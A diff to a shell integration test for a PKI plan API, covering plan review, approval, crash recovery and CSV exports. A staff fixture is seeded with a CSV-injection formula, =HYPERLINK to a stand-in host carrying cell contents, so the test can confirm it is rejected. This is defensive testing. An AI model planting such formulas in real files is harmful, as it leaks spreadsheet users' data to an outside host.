@@ -34,6 +34,8 @@ start_gw
 
 export SIMPKI_API_KEY=$OPS_TOKEN
 ADMIN=("$SIMPKI_ADMIN" -c "$T/simpki.json")
+jqe() { jq -e "$@" >/dev/null; }
+records() { python3 -c 'import csv, sys; print(len(list(csv.reader(open(sys.argv[1], encoding="utf-8-sig")))))' "$1"; }
 ops() { # METHOD PATH [BODY]: the API as the operator
   local saved=$TOKEN; TOKEN=$OPS_TOKEN; api "$@"; TOKEN=$saved
 }
@@ -48,21 +50,27 @@ head, rows = lines[0], lines[1:]
 out = [head]
 for i in range(100000):
     out.append(rows[i % len(rows)])
-out[500] = out[500] + ',"broken'                               # a quote never closed on one line
-out[700] = '=HYPERLINK("http://x.example/?"&A1)' + out[700][out[700].index(","):]  # a formula cell
+# Early, so that they come before the duplicates (the first 200 findings are listed); the quote never
+# closed last, since it runs on to the next quote in the file as CSV says.
+out[40] = '"=HYPERLINK(""http://x.example/?""&A1)"' + out[40][out[40].index(","):]  # a formula, as a spreadsheet quotes it
+out[60] = out[60] + ',"broken'                                 # a quote never closed
 open(dst, "w", encoding="utf-8-sig", newline="\r\n").write("\n".join(out) + "\n")
 EOF
 body=$(jq -n --rawfile r "$FX/reorg.csv" --rawfile s "$T/staff-hostile.csv" \
   '{name: "hostile", deadline: "2025-08-15", reorg: $r, staff: $s}')
 printf '%s' "$body" > "$T/hostile.json"
 ops POST /v1/plans @"$T/hostile.json" >/dev/null
+cp "$T/body" "$T/hostile-answer.json"
+jq -c '.findings[] | select(.file == "staff" and .code != "DUPLICATE") | {line, column, code}' "$T/hostile-answer.json" | head -5
 check "100,000 staff rows with a broken line, a formula cell and duplicates: 400 INVALID_INPUT" \
-  jq -e '.error == "INVALID_INPUT"' "$T/body"
-check "... the formula cell named by its line (702), as FORMULA" \
-  jq -e '[.findings[] | select(.code == "FORMULA" and .file == "staff")] | length >= 1' "$T/body"
-check "... duplicates reported as DUPLICATE" jq -e '[.findings[] | select(.code == "DUPLICATE")] | length >= 1' "$T/body"
+  jqe '.error == "INVALID_INPUT"' "$T/body"
+check "... the formula cell named by its line (41), as FORMULA" \
+  jqe '[.findings[] | select(.code == "FORMULA" and .file == "staff" and .line == 41)] | length == 1' "$T/hostile-answer.json"
+check "... the broken line named by its line" \
+  jqe '[.findings[] | select(.file == "staff" and .line == 61 and (.code == "FRAMING"))] | length == 1' "$T/hostile-answer.json"
+check "... duplicates reported as DUPLICATE" jqe '[.findings[] | select(.code == "DUPLICATE")] | length >= 1' "$T/hostile-answer.json"
 check "... a finding never repeats a cell (no CCCD digits in any message)" \
-  bash -c "! jq -r '.findings[].message' '$T/body' | grep -Eq '[0-9]{12}'"
+  bash -c "! jq -r '.findings[].message' '$T/hostile-answer.json' | grep -Eq '[0-9]{12}'"
 check "... nothing stored" test "$(redis-cli -p "$REDIS_PORT" ZCARD 'spk:{enr}:plans')" = "$plans_before"
 # A unit mapped to two new units: taken, flagged (SPLIT), its organisation certificate to decide (D2).
 check "the shipped 2025 province reorganisation is read without an error" \
@@ -77,17 +85,16 @@ check "the shipped 2025 province reorganisation is read without an error" \
 PLAN=$(grep -Eo 'p[0-9a-f]{12}' "$T/build.out" | head -1)
 check "simpki-admin plan build: a plan id" test -n "$PLAN"
 ops GET "/v1/plans/$PLAN" >"$T/plan.json"
-check "the plan is under review, version 1" jq -e '.state == "review" and .version == 1' "$T/plan.json"
+check "the plan is under review, version 1" jqe '.state == "review" and .version == 1' "$T/plan.json"
 rows=$(jq -r .summary.rows "$T/plan.json")
-ops GET "/v1/plans/$PLAN/rows?limit=1000" >"$T/rows.json"
-for off in $(seq 1000 1000 "$rows"); do
+for off in $(seq 0 1000 "$rows"); do
   ops GET "/v1/plans/$PLAN/rows?limit=1000&offset=$off" | jq '.rows' >"$T/rows-$off.json"
 done
-jq -s '[.[0].rows[]] + ([.[1:][]] | add // [])' "$T/rows.json" "$T"/rows-[0-9]*.json >"$T/all-rows.json" 2>/dev/null ||
-  jq '.rows' "$T/rows.json" >"$T/all-rows.json"
+jq -s 'add' "$T"/rows-*.json >"$T/all-rows.json"
+check "every row fetched" jqe --argjson n "$rows" 'length == $n' "$T/all-rows.json"
 
 # Row by row: the plan against the fixture's expected.tsv (the rules as gw_merge_rules.h words them).
-python3 - "$T/all-rows.json" "$FX/expected.tsv" >"$T/rowcheck.out" 2>&1 <<'EOF'
+python3 - "$T/all-rows.json" "$FX/expected.tsv" >"$T/rowcheck.out" 2>&1 <<'EOF' || true
 import csv, json, sys
 rows = json.load(open(sys.argv[1]))
 exp = list(csv.DictReader(open(sys.argv[2], encoding="utf-8"), delimiter="\t"))
@@ -104,6 +111,10 @@ for e in exp:
         print("missing row for %s (%s %s)" % (e["key"], e["action"], e["rule"])); bad += 1; continue
     want = (e["action"], e["rule"], e.get("reason_code") or "", e.get("handover_to") or "")
     got = (r["action"], r["rule"], str(r.get("reason_code") or ""), r.get("handover_to") or "")
+    if e["action"] == "decide":
+        # A row to decide keeps its underlying rule's reason and receiving body (gw_merge_rules.h D5, D6), for an
+        # override to file; what is asserted is that it waits for a decision, by which rule.
+        want, got = want[:2], got[:2]
     if want != got:
         print("row %d (%s): want %s, got %s" % (r["no"], e["key"], want, got)); bad += 1
 for k, r in by_key.items():
@@ -115,15 +126,15 @@ check "every row's action, rule, reason and receiving body as the rules say ($(t
   grep -q ' 0 wrong$' "$T/rowcheck.out"
 head -20 "$T/rowcheck.out"
 for r in O1 O2 O3 O4 P1 P2 P3 P4 P5 D1 D2 D3 D4 D5 D6; do
-  check "rule $r chose at least two rows" jq -e --arg r "$r" '[.[] | select(.rule == $r)] | length >= 2' "$T/all-rows.json"
+  check "rule $r chose at least two rows" jqe --arg r "$r" '[.[] | select(.rule == $r)] | length >= 2' "$T/all-rows.json"
 done
 
 # ---- review: approval refused while rows need a decision; overrides; diff -------------------
 ops POST "/v1/plans/$PLAN/approve" '{"version": 1, "by": "Trần Thị Duyệt"}' >/dev/null
-check "approve with rows to decide: 409 DECISIONS_PENDING" jq -e '.error == "DECISIONS_PENDING" and .count > 0' "$T/body"
+check "approve with rows to decide: 409 DECISIONS_PENDING" jqe '.error == "DECISIONS_PENDING" and .count > 0' "$T/body"
 first_decide=$(jq -r '[.[] | select(.action == "decide")][0].no' "$T/all-rows.json")
 ops POST "/v1/plans/$PLAN/rows/$first_decide" '{"action": "keep", "reason": "x", "version": 7}' >/dev/null
-check "an override against another version: 409 VERSION_CONFLICT" jq -e '.error == "VERSION_CONFLICT"' "$T/body"
+check "an override against another version: 409 VERSION_CONFLICT" jqe '.error == "VERSION_CONFLICT"' "$T/body"
 v=1
 while IFS=$'\t' read -r key action reason; do
   [ "$key" = key ] && continue
@@ -136,12 +147,12 @@ ops GET "/v1/plans/$PLAN/diff?from=1&to=$v" >"$T/diff.json"
 check "diff 1..$v names every overridden row once" \
   bash -c "[ \"\$(jq '.changes | length' '$T/diff.json')\" = \"\$(($(wc -l <"$FX/overrides.tsv") - 1))\" ]"
 ops GET "/v1/plans/$PLAN/rows?action=decide" >/dev/null
-check "no row left to decide" jq -e '.matched == 0' "$T/body"
+check "no row left to decide" jqe '.matched == 0' "$T/body"
 
 # ---- approve and run, kill -9 mid-batch -----------------------------------------------------
 "${ADMIN[@]}" plan approve "$PLAN" --by "Trần Thị Duyệt" >"$T/approve.out" 2>&1
 ops GET "/v1/plans/$PLAN" >"$T/plan.json"
-check "approved (simpki-admin plan approve)" jq -e '.state == "approved" or .state == "running"' "$T/plan.json"
+check "approved (simpki-admin plan approve)" jqe '.state == "approved" or .state == "running"' "$T/plan.json"
 to_file=$(jq -r .progress.to_file "$T/plan.json")
 filed_at_least() { ops GET "/v1/plans/$PLAN" >/dev/null; jq -e --argjson n "$1" '.progress.filed >= $n' "$T/body" >/dev/null; }
 wait_for 120 filed_at_least 30
@@ -161,10 +172,10 @@ done
 check "the plan finished after the restart" plan_done
 "${ADMIN[@]}" plan follow "$PLAN" >"$T/follow.out" 2>&1 || true
 ops GET "/v1/plans/$PLAN/report" >"$T/report.json"
-check "report: no failed row" jq -e '[.rows[] | select(.request_id != null and .state != "done")] | length == 0' "$T/report.json"
+check "report: no failed row" jqe '[.rows[] | select(.request_id != null and .state != "done")] | length == 0' "$T/report.json"
 
 # No request twice, none lost: exactly the plan's requests were filed, each once.
-python3 - "$T/report.json" <<'EOF' >"$T/dups.out"
+python3 - "$T/report.json" <<'EOF' >"$T/dups.out" || true
 import json, sys
 r = json.load(open(sys.argv[1]))
 ids = [x["request_id"] for x in r["rows"] if x.get("request_id")] + [h["request_id"] for h in r["handovers"]]
@@ -175,7 +186,7 @@ check "every request filed once: $(cat "$T/dups.out") ids, $reqs_total requests 
   bash -c "read a b <'$T/dups.out'; [ \"\$a\" = \"\$b\" ] && [ \"\$a\" = '$reqs_total' ]"
 
 # The registry in the state expected, number by number.
-python3 - "$FX/expected-final.tsv" "$REDIS_PORT" >"$T/final.out" 2>&1 <<'EOF'
+python3 - "$FX/expected-final.tsv" "$REDIS_PORT" >"$T/final.out" 2>&1 <<'EOF' || true
 import csv, subprocess, sys
 port = sys.argv[2]
 def shard(m):
@@ -207,9 +218,9 @@ ops GET "/v1/plans/$PLAN/bundle?unit=$(jq -rn --arg u "$unit" '$u|@uri')" >"$T/b
 check "a unit's bundle: its Mẫu 09 and Mẫu 14, no external resource" \
   bash -c "grep -q 'THU HỒI' '$T/bundle.html' && grep -q 'BIÊN BẢN BÀN GIAO' '$T/bundle.html' && ! grep -Eq '(src|href)=\"https?:' '$T/bundle.html'"
 ops GET "/v1/plans/$PLAN/open?format=csv" >"$T/open.csv"
-check "open-by-unit CSV once finished: the header alone" test "$(wc -l <"$T/open.csv")" -eq 1
+check "open-by-unit CSV once finished: the header alone" test "$(records "$T/open.csv")" -eq 1
 ops GET "/v1/plans/$PLAN/export?format=csv" >"$T/export.csv"
-check "the CA's export: one line per request + header" \
-  bash -c "[ \$(wc -l <'$T/export.csv') -eq \$(( \$(cut -d' ' -f1 '$T/dups.out') + 1 )) ]"
+check "the CA's export: one record per request, and the header" \
+  test "$(records "$T/export.csv")" -eq "$(( $(cut -d' ' -f1 "$T/dups.out") + 1 ))"
 
 finish
